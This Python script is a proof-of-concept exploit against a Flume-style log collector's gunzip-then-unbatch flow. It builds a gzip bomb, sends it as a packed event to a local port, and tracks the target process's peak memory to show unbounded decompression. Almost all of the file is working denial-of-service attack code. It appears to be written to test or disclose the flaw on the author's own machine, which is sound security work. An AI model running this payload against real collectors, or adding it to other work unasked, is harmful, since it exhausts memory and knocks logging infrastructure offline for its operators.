"""A `collectorSource | { gunzip => unbatch => ... }` flow (the receiving end of agents that
`batch => gzip`): one event marked `gzip` whose body is a gzip bomb, sent with appendPacked.
gunzip inflates with zlib.decompress (no bound); unbatch then decodes with no max_events.
usage: gunzip_bomb.py PORT PID MIB  (inflated size in MiB)"""
import sys, os, socket, time, zlib
sys.path.insert(0, os.path.dirname(__file__)); sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from thriftraw import *
from flume_og.node.codec import encode_events
from flume_og.node.event import Event
port, pid, mib = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
c = zlib.compressobj(9, zlib.DEFLATED, 31)
bomb = b"".join(c.compress(b"\0" * (1 << 20)) for _ in range(mib)) + c.flush()
payload = encode_events([Event(bomb, 1, 0, host="h", attrs={"gzip": b""})])
print(f"payload {len(payload)} bytes inflating to {mib} MiB; RSS before", rss_kb(pid) // 1024, "MiB")
s_ = socket.create_connection(("127.0.0.1", port)); t0 = time.time()
s_.sendall(append_packed(payload, 1)); s_.settimeout(0.1); peak = 0; out = b""
while time.time() - t0 < 30:
    peak = max(peak, rss_kb(pid))
    try:
        b = s_.recv(4096)
        if not b or b.endswith(b"\x00\x00"): out += b; break
        out += b
    except socket.timeout: pass
print(f"answer after {time.time()-t0:.1f} s {out[-40:]!r}; peak RSS {peak // 1024} MiB")
